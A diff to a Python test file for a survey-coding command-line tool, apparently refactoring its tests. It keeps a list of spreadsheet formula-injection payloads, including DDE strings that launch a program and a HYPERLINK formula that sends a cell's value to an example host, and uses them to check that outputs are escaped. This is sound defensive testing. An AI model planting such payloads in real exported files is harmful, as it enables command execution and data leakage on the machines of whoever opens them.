@@ -21,8 +21,6 @@ from coding_tables import (
     answers,
     counts_of,
     read_csv,
-    refuse,
-    succeed,
     without_codes,
     write_csv,
 )
@@ -54,8 +52,7 @@ def semicolons_and_quotes_over_lines(folder):
     rows = [(a, b + tail, *more, codes.replace(";", ",")) for a, b, *more, codes in ROWS]
     how = {"encoding": "utf-8-sig", "delimiter": ";", "newline": "\r\n"}
     options = (*COLUMNS, "--sep", ",", "--features", "age,region")
-    path = write_csv(folder / "odd.csv", rows, **how)
-    return Odd(path, HEADER, rows, options, delimiter=";")
+    return Odd(write_csv(folder / "odd.csv", rows, **how), HEADER, rows, options, delimiter=";")
 
 
 def repeated_and_empty_names(folder):
@@ -90,9 +87,8 @@ def emoji_and_right_to_left(folder):
 
 def marks_of_x(folder):
     header = ("id", *CODES, "answer")
-    rows = [
-        (a, *("x" if code in e.split(";") else "" for code in CODES), b) for a, b, _, _, e in ROWS
-    ]
+    marks = [["x" if code in row[-1].split(";") else "" for code in CODES] for row in ROWS]
+    rows = [(row[0], *own, row[1]) for row, own in zip(ROWS, marks, strict=True)]
     path = write_csv(folder / "odd.tsv", rows, header, delimiter="\t")
     options = ("--text", "answer", "--label-columns", ",".join(CODES))
     return Odd(path, header, rows, options, marks=tuple(CODES))
@@ -100,10 +96,8 @@ def marks_of_x(folder):
 
 def json_lines(folder):
     header = ("id", "answer", "age", "member", "share", "codes")
-    rows = [
-        (i, b, int(c) if c else None, i % 2 == 0, i / 8, e)
-        for i, (_, b, c, _, e) in enumerate(ROWS)
-    ]
+    ages = [int(row[2]) if row[2] else None for row in ROWS]
+    rows = [(i, r[1], ages[i], i % 2 == 0, i / 8, r[4]) for i, r in enumerate(ROWS)]
     path = folder / "odd.jsonl"
     path.write_text("\n".join(json.dumps(dict(zip(header, row, strict=True))) for row in rows))
     return Odd(path, header, rows, (*COLUMNS, "--features", "age,member,share"))
@@ -114,10 +108,8 @@ def parquet(folder):
     from pyarrow.parquet import write_table
 
     header = ("id", "answer", "age", "day", "share", "codes")
-    rows = [
-        (i, b, int(c) if c else None, DAY, i / 8, e or None)
-        for i, (_, b, c, _, e) in enumerate(ROWS)
-    ]
+    ages = [int(row[2]) if row[2] else None for row in ROWS]
+    rows = [(i, r[1], ages[i], DAY, i / 8, r[4] or None) for i, r in enumerate(ROWS)]
     columns = map(list, zip(*rows, strict=True))
     write_table(pyarrow.table(dict(zip(header, columns, strict=True))), folder / "odd.parquet")
     return Odd(folder / "odd.parquet", header, rows, (*COLUMNS, "--features", "age,day"))
@@ -143,10 +135,8 @@ def excel(folder):
     sheet.merge_cells(f"B{N + 3}:G{N + 5}")
     book.create_sheet("Notes").append(["not this one"])
     book.save(folder / "odd.xlsx")
-    options, notes = (
-        (*COLUMNS, "--features", "share,day"),
-        ("The sheet 'Wave 2' was read, and not 'Notes'.",),
-    )
+    options = (*COLUMNS, "--features", "share,day")
+    notes = ("The sheet 'Wave 2' was read, and not 'Notes'.",)
     return Odd(folder / "odd.xlsx", header, rows, options, counts_of(rows, place=5), notes=notes)
 
 
@@ -216,9 +206,9 @@ ODD += (marks_of_x, json_lines, parquet, excel)
 
 
 @pytest.mark.parametrize("make", ODD, ids=lambda make: make.__name__)
-def test_from_fit_to_coded_files_nothing_is_lost(make, tmp_path, capsys):
+def test_from_fit_to_coded_files_nothing_is_lost(make, tmp_path, succeed):
     model, odd = tmp_path / "model.nldd", make(tmp_path)
-    fitted = succeed(capsys, "fit", odd.path, *odd.options, *QUICK, "-o", model, "--json").json
+    fitted = succeed("fit", odd.path, *odd.options, *QUICK, "-o", model, "--json").json
     assert (fitted["rows"], fitted["coded"], fitted["set_aside"]) == (N, N_CODED, N - N_CODED)
     assert fitted["labels"] == odd.counts
     assert tuple(fitted["notes"]) == odd.notes
@@ -226,7 +216,7 @@ def test_from_fit_to_coded_files_nothing_is_lost(make, tmp_path, capsys):
     theta, coded = 1.0, []
     for name in ("coded.jsonl", "coded.xlsx", "coded.csv"):
         words = ("predict", model, odd.path, "-o", tmp_path / name, "--max-theta", theta)
-        counts = succeed(capsys, *words, "--raw", "--json").json
+        counts = succeed(*words, "--raw", "--json").json
         assert tuple(counts["notes"]) == odd.notes
         added = added_cells(odd, tmp_path / name)
         status = Counter(row["nldd_status"] for row in added)
@@ -239,21 +229,13 @@ def test_from_fit_to_coded_files_nothing_is_lost(make, tmp_path, capsys):
     assert min(counts["auto"], counts["review"]) > 0
 
 
-MALICIOUS = (
-    "=cmd|'/C calc'!A0",
-    "+1+cmd|'/C calc'!A0",
-    "-2+3+cmd|'/C calc'!A0",
-    "@SUM(1+1)*cmd|'/C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    " =1+1",
-    "\uff1d1+1",
-    '=HYPERLINK("http://example.org?"&A1,"click")',
-)
+MALICIOUS = ("=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0")
+MALICIOUS += ("@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1")
+MALICIOUS += ('=HYPERLINK("http://example.org?"&A1,"click")',)
 
 
 @pytest.fixture
-def malicious(tmp_path, capsys):
+def malicious(tmp_path, succeed):
     """A model that knows malicious answers and codes, and a table of new ones of the kind."""
     rows = [
         (a, f"{MALICIOUS[i % len(MALICIOUS)]} {b}", c, MALICIOUS[-i % len(MALICIOUS)], f"={e}")
@@ -261,21 +243,20 @@ def malicious(tmp_path, capsys):
     ]
     header = ("id", "answer", "age", "=region", "codes")
     path = write_csv(tmp_path / "answers.csv", rows, header, quoting=csv.QUOTE_ALL)
-    words = ("fit", path, *COLUMNS, "--features", "=region", *QUICK, "-o", tmp_path / "model.nldd")
-    succeed(capsys, *words)
+    succeed("fit", path, *COLUMNS, "--features", "=region", *QUICK, "-o", tmp_path / "model.nldd")
     new = [(f"new {row[0]}", *row[1:4]) for row in rows]  # of other respondents
     write_csv(tmp_path / "new.csv", new, header[:4], quoting=csv.QUOTE_ALL)
     return tmp_path, header[:4], new
 
 
-def predict(capsys, folder, out, *options, new="new.csv", theta=1):
+def predict(succeed, folder, out, *options, new="new.csv", theta=1):
     words = ("predict", folder / "model.nldd", folder / new, "-o", folder / out, *options)
-    succeed(capsys, *words, "--max-theta", theta)
+    succeed(*words, "--max-theta", theta)
 
 
-def test_formulas_are_guarded_in_csv_unless_raw(malicious, capsys):
+def test_formulas_are_guarded_in_csv_unless_raw(malicious, succeed):
     folder, header, rows = malicious
-    predict(capsys, folder, "coded.csv", "--explain")
+    predict(succeed, folder, "coded.csv", "--explain")
     found, coded = read_csv(folder / "coded.csv")
     assert found[:4] == ("id", "answer", "age", "'=region")
     for place in (1, 3):
@@ -285,7 +266,7 @@ def test_formulas_are_guarded_in_csv_unless_raw(malicious, capsys):
     begins = tuple("=+-@\t\r\uff1d")
     cells = {cell for row in coded for cell in row if cell.lstrip(" ").startswith(begins)}
     assert {cell for cell in cells if not is_number(cell)} == set()
-    predict(capsys, folder, "raw.csv", "--raw")
+    predict(succeed, folder, "raw.csv", "--raw")
     found, coded = read_csv(folder / "raw.csv")
     assert (found[:4], [row[:4] for row in coded]) == (header, rows)
     assert all(row[4].startswith("=") for row in coded)
@@ -295,23 +276,23 @@ def is_number(cell):
     return cell.replace(".", "").replace("e-", "").removeprefix("-").isdecimal()
 
 
-def test_formulas_are_guarded_in_review_and_audit_files(malicious, capsys):
+def test_formulas_are_guarded_in_review_and_audit_files(malicious, succeed):
     folder, _, rows = malicious
-    predict(capsys, folder, "coded.csv", "--review", folder / "review.csv", theta=0)
+    predict(succeed, folder, "coded.csv", "--review", folder / "review.csv", theta=0)
     review = [row[1] for row in read_csv(folder / "review.csv")[1]]
     assert sorted(review) == sorted(escape_formula(row[1]) for row in rows)
-    predict(capsys, folder, "raw.csv", "--raw")
-    succeed(capsys, "audit", folder / "raw.csv", "--sample", "5")
+    predict(succeed, folder, "raw.csv", "--raw")
+    succeed("audit", folder / "raw.csv", "--sample", "5")
     assert all(row[1].startswith("'") for row in read_csv(folder / "raw.audit.csv")[1])
-    succeed(capsys, "audit", folder / "raw.csv", "--sample", "5", "--raw", "--force")
+    succeed("audit", folder / "raw.csv", "--sample", "5", "--raw", "--force")
     assert all(row[1].startswith(MALICIOUS) for row in read_csv(folder / "raw.audit.csv")[1])
 
 
-def test_formulas_come_through_workbooks_as_text(malicious, capsys):
+def test_formulas_come_through_workbooks_as_text(malicious, succeed):
     folder, header, rows = malicious
-    predict(capsys, folder, "coded.xlsx")
-    predict(capsys, folder, "again.xlsx", new="coded.xlsx")
-    predict(capsys, folder, "back.csv", "--raw", new="again.xlsx")
+    predict(succeed, folder, "coded.xlsx")
+    predict(succeed, folder, "again.xlsx", new="coded.xlsx")
+    predict(succeed, folder, "back.csv", "--raw", new="again.xlsx")
     first = read_workbook(folder / "coded.xlsx")
     assert first[0][:4] == header
     assert [row[:4] for row in first[1]] == [tuple(map(in_workbook, row)) for row in rows]
@@ -321,12 +302,3 @@ def test_formulas_come_through_workbooks_as_text(malicious, capsys):
     assert [row[:4] for row in read_csv(folder / "back.csv")[1]] == rows
     cells = [cell for row in openpyxl.load_workbook(folder / "coded.xlsx").active for cell in row]
     assert {cell.data_type for cell in cells} <= {"inlineStr", "s", "n"}
-
-
-def test_a_list_with_one_code_only_is_refused(tmp_path, capsys):
-    rows = [(*row[:-1], "pay") for row in answers(30)]
-    path = write_csv(tmp_path / "odd.csv", rows)
-    error, hint = refuse(capsys, "fit", path, *COLUMNS, *QUICK, "-o", tmp_path / "model.nldd")
-    assert "30 coded answers" in error and "{pay}" in error
-    assert "--labels" in hint
-    assert not (tmp_path / "model.nldd").exists()
